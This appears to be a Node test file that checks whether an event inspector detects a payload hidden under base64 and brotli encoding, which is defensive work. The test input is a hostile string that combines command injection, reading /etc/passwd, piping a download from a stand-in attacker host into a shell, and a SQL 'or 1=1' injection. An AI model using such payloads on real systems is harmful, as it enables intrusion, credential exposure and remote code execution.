import assert from 'node:assert/strict';
import { test } from 'node:test';
import { brotliCompressSync } from 'node:zlib';
import { inspectEvent } from './inspect.ts';
import { provideNodeHost } from './node.ts';

test('brotli is looked into once the host is there', () => {
  const event = {
    v: brotliCompressSync("x'; cat /etc/passwd; curl http://attacker.example/x | sh; ' or 1=1 -- ".repeat(3)).toString('base64'),
  };
  provideNodeHost();
  const { detections } = inspectEvent(event);
  assert.ok(detections.some(({ encodings }) => encodings.join(' ') === 'base64 brotli'));
});
